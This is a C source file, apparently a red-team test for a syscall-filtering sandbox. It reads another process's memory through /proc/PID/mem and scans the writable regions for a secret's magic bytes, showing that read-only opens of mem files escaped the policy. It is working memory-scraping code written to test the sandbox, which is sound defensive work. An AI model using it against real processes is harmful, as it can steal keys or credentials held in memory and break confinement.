/* tr_peek.c: another process's memory read through /proc/PID/mem (issue 11, red team).
 *
 * Reading another process's memory is what process_vm_readv and ptrace do, and both are
 * unsafe calls, refused unless a rule names them.  open("/proc/PID/mem", O_RDONLY) and pread
 * do the same -- root (CAP_SYS_PTRACE), or the same user for a dumpable process -- and only
 * writing opens of a mem file were refused.  A process outside the tree that holds the
 * secret in its memory (a daemon that loaded a key, an editor, the tracer itself) gave it
 * away to a program refused the file.
 *
 *   tr_peek PID      search the writable memory of PID for the secret's magic
 *   tr_peek self     the same search over the program's own memory (which holds no secret
 *                    unless it read the file): a program's own memory stays readable
 */
#include "attack.h"

int main(int argc, char **argv) {
    if (argc != 2)
        usage("tr_peek PID|self");
    int own = strcmp(argv[1], "self") == 0;
    int pid = own ? getpid() : atoi(argv[1]);
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/maps", argv[1]);
    FILE *maps = fopen(path, "r");
    snprintf(path, sizeof path, "/proc/%s/mem", argv[1]);
    int mem = open(path, O_RDONLY);
    if (!maps || mem < 0)
        blocked("cannot open the memory of %d: %s", pid, ename(errno));
    static char chunk[1 << 20];
    const size_t magic_len = strlen(SECRET_MAGIC);
    char line[512];
    size_t read_bytes = 0;
    while (fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &start, &end, perms) != 3 || perms[0] != 'r'
                || perms[1] != 'w')
            continue;
        for (unsigned long at = start; at < end; at += sizeof chunk) {
            size_t want = end - at < sizeof chunk ? end - at : sizeof chunk;
            ssize_t n = pread(mem, chunk, want, (off_t)at);
            if (n <= 0)
                continue;
            read_bytes += (size_t)n;
            /* (the magic in this program's own data is in a read-only mapping: not searched) */
            if (memmem(chunk, (size_t)n, SECRET_MAGIC, magic_len))
                escaped("the secret's bytes read from the memory of %s %d", own ? "self" : "pid",
                        pid);
        }
    }
    if (own && read_bytes > 0)
        escaped("read %zu bytes of its own memory (no secret in it)", read_bytes);
    blocked("%zu bytes of %d's memory read, no secret in them", read_bytes, pid);
}
